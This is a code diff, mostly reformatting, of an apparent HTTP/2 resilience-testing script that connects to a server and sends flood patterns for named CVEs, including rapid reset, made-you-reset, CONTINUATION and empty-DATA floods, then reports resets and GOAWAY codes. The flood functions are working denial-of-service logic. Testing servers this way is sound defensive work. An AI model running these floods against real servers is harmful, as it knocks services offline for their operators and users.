@@ -3,8 +3,24 @@
  * good. Prints how many frames it took until the server had enough, and how it said so.
  */
 import {
-  clientPreface, ErrorCode, errorCodeName, FrameDecoder, FrameFlag, FrameType, HpackEncoder, maxEncodedBytes, maxInt31, writeFrameHeader, writeHeaderBlock, writePing,
-  writeRstStream, writeSettings, writeSettingsAck, writeUint32, writeWindowUpdate, type FrameSink,
+  clientPreface,
+  ErrorCode,
+  errorCodeName,
+  FrameDecoder,
+  FrameFlag,
+  FrameType,
+  HpackEncoder,
+  maxEncodedBytes,
+  maxInt31,
+  writeFrameHeader,
+  writeHeaderBlock,
+  writePing,
+  writeRstStream,
+  writeSettings,
+  writeSettingsAck,
+  writeUint32,
+  writeWindowUpdate,
+  type FrameSink,
 } from '@ambit/http';
 import { connectTls, finish, nameOfError, readOrder, type TunnelOrder } from './order.ts';
 
@@ -28,18 +44,28 @@ const encoder = new HpackEncoder(0);
 
 const floods = {
   /** Streams that are asked for and taken back at once (CVE-2023-44487). */
-  'rapid-reset': (target, offset, turn) => writeRstStream(target, connectRequest(target, offset, streamOf(turn)), streamOf(turn), ErrorCode.cancel),
+  'rapid-reset': (target, offset, turn) =>
+    writeRstStream(target, connectRequest(target, offset, streamOf(turn)), streamOf(turn), ErrorCode.cancel),
   /** Streams that the server has to reset because of what we send on them (CVE-2025-8671). */
   'made-you-reset': (target, offset, turn) => {
-    const at = writeFrameHeader(target, connectRequest(target, offset, streamOf(turn)), 4, FrameType.windowUpdate, 0, streamOf(turn));
+    const at = writeFrameHeader(
+      target,
+      connectRequest(target, offset, streamOf(turn)),
+      4,
+      FrameType.windowUpdate,
+      0,
+      streamOf(turn),
+    );
     return writeUint32(target, at, 0);
   },
   settings: (target, offset) => writeSettings(target, offset, [[1, 4096]]),
   ping: (target, offset) => writePing(target, offset, false, Buffer.alloc(8), 0),
   /** A header block that never ends (CVE-2024-27316). */
-  continuation: (target, offset, turn) => writeFrameHeader(target, turn === 0 ? openHeaders(target, offset) : offset, 0, FrameType.continuation, 0, 1),
+  continuation: (target, offset, turn) =>
+    writeFrameHeader(target, turn === 0 ? openHeaders(target, offset) : offset, 0, FrameType.continuation, 0, 1),
   /** DATA that carries nothing (CVE-2019-9518). */
-  'empty-data': (target, offset, turn) => writeFrameHeader(target, turn === 0 ? connectRequest(target, offset, 1) : offset, 0, FrameType.data, 0, 1),
+  'empty-data': (target, offset, turn) =>
+    writeFrameHeader(target, turn === 0 ? connectRequest(target, offset, 1) : offset, 0, FrameType.data, 0, 1),
   /** Header lists above what the server said it takes. */
   'oversize-headers': (target, offset, turn) => connectRequest(target, offset, streamOf(turn), 80),
   /** More credit than a window can hold. */
@@ -59,7 +85,9 @@ const flood: Flood = floods[order.kind];
 const socket = connectTls(order);
 const decoder = new FrameDecoder('client', listener());
 
-socket.on('error', (cause) => { error = nameOfError(cause); });
+socket.on('error', (cause) => {
+  error = nameOfError(cause);
+});
 socket.on('close', () => report(true));
 socket.on('data', (chunk: Buffer) => {
   try {
@@ -89,7 +117,14 @@ function round(): void {
 }
 
 function report(isClosed: boolean): void {
-  finish({ framesSent, isClosed, resets, ms: Math.round(performance.now() - startMs), ...(goAway === undefined ? {} : { goAway }), ...(error === undefined ? {} : { error }) });
+  finish({
+    framesSent,
+    isClosed,
+    resets,
+    ms: Math.round(performance.now() - startMs),
+    ...(goAway === undefined ? {} : { goAway }),
+    ...(error === undefined ? {} : { error }),
+  });
 }
 
 function streamOf(turn: number): number {
@@ -97,7 +132,10 @@ function streamOf(turn: number): number {
 }
 
 function connectRequest(target: Uint8Array, offset: number, streamId: number, padding = 0): number {
-  const fields: (readonly [string, string])[] = [[':method', 'CONNECT'], [':authority', order.authority]];
+  const fields: (readonly [string, string])[] = [
+    [':method', 'CONNECT'],
+    [':authority', order.authority],
+  ];
   for (let index = 0; index < padding; index += 1) fields.push([`x-padding-${index}`, 'x'.repeat(1_000)]);
   const block = new Uint8Array(fields.reduce((sum, [name, value]) => sum + maxEncodedBytes(name, value), 12));
   let length = encoder.begin(block, 0);
@@ -115,14 +153,28 @@ function openHeaders(target: Uint8Array, offset: number): number {
 function listener(): FrameSink {
   const ignore = (): void => {};
   return {
-    onDataFrame: ignore, onData: ignore, onDataPadding: ignore, onDataEnd: ignore, onHeaderBlock: ignore, onPriority: ignore, onSetting: ignore, onSettingsAck: ignore, onPing: ignore,
-    onWindowUpdate: ignore, onStreamError: ignore, onUnknownFrame: ignore,
-    onReset: () => { resets += 1; },
+    onDataFrame: ignore,
+    onData: ignore,
+    onDataPadding: ignore,
+    onDataEnd: ignore,
+    onHeaderBlock: ignore,
+    onPriority: ignore,
+    onSetting: ignore,
+    onSettingsAck: ignore,
+    onPing: ignore,
+    onWindowUpdate: ignore,
+    onStreamError: ignore,
+    onUnknownFrame: ignore,
+    onReset: () => {
+      resets += 1;
+    },
     onSettingsEnd: () => {
       const answer = Buffer.alloc(9);
       writeSettingsAck(answer, 0);
       socket.write(answer);
     },
-    onGoAway: (_lastStreamId, code) => { goAway = errorCodeName(code); },
+    onGoAway: (_lastStreamId, code) => {
+      goAway = errorCodeName(code);
+    },
   };
 }
